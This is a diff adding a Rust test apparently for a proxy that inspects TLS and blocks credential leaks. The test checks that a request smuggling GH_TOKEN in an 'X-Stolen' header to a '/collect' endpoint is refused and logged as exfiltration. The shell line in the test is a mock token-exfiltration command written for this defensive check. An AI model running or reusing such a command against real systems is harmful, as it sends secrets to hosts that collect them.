@@ -312,6 +312,47 @@ fn a_host_without_a_bound_credential_stays_a_plain_tunnel() {
 }
 
 #[test]
+fn with_inspect_tls_all_a_placeholder_over_https_to_another_host_is_refused() {
+    if !need(&["curl"]) {
+        return;
+    }
+    // Bound to port 443; the TLS server is elsewhere, so unbound, but
+    // every tunnel is inspected.
+    let (server, ca_pem) = testkit::http::Server::start_tls(echo);
+    let setup = setup_with(443, Some(&ca_pem), "", "inspect_tls = \"all\"\n");
+    let policy_path = setup.dir.path().join("policy.toml");
+    let policy = std::fs::read_to_string(&policy_path).expect("policy");
+    std::fs::write(
+        &policy_path,
+        policy.replacen(
+            "connect_ports = [443]",
+            &format!("connect_ports = [443, {}]", server.port),
+            1,
+        ),
+    )
+    .expect("policy");
+    let url = format!("https://localhost:{}/collect", server.port);
+    let out = setup.sh(&format!(
+        "curl -sS -o /dev/null -w '%{{http_code}}\\n' -H \"X-Stolen: $GH_TOKEN\" {url}; \
+         curl -sS -o /dev/null -w '%{{http_code}}\\n' {url}"
+    ));
+    assert_ok(&out);
+    assert_eq!(stdout(&out), "403\n200\n", "{}", stderr(&out));
+    let seen = server.stop().1;
+    assert_eq!(seen.len(), 1, "only the clean request reached the host");
+    assert!(!seen[0].head.contains("X-Stolen"));
+    let lines = proxy_lines(&setup);
+    assert!(
+        lines.iter().any(|l| l.contains("exfiltration")),
+        "{lines:?}"
+    );
+    assert!(
+        lines.iter().any(|l| l.contains("TLS inspected")),
+        "{lines:?}"
+    );
+}
+
+#[test]
 fn a_credential_too_short_to_stand_in_for_is_refused_naming_the_key() {
     let setup = setup_with(443, None, "", "");
     std::fs::write(setup.dir.path().join("gh-token"), "ghp_short\n").expect("secret");
